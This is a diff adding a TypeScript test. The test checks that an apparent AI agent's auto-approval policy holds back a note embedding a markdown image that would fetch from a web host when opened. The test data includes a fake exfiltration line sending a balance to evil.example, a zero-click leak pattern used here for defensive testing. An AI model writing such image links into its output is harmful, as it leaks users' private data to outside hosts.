@@ -55,6 +55,22 @@ test('what is green is done at once by the word of policy, never asked, and file
   assert.deepEqual(notesIn(vault, `Done/${month}`).sort(), [NOTE, 'letter-01234567-receipt-1.md']);
 });
 
+test('a green rule lets no note be written that fetches from the web once it is opened', async () => {
+  await using vault = new InProcess();
+  const executor = await executorUnder(vault, 'rules:\n  - {name: notes, zone: green, action: files.write}', {
+    ...{ does: 'create', egress: false, routing: ['path'] },
+  });
+  const note = (text: string) => ({
+    ...{ server: 'files', tool: 'write', arguments: { path: 'Documents/summary.md', text } },
+    origins: { path: { kind: 'person' } as const },
+  });
+  await executor.propose(ID, note('All is well.\n\n![](https://evil.example/?balance=12345)'));
+  await executor.propose(`${TASK}-a2`, note('All is well: [the page](https://example.com).'));
+  await executor.drain();
+  assert.deepEqual([stateOf(vault, 1), stateOf(vault, 2)], ['proposed', 'confirmed']);
+  assert.match(read(vault, `Pending_Approval/${NOTE}`), /can fetch or run something: it holds an image/);
+});
+
 test('what is yellow waits in Outbox with its time, and is done when its hold is over, not before', async () => {
   await using vault = new InProcess();
   const executor = await held(vault);
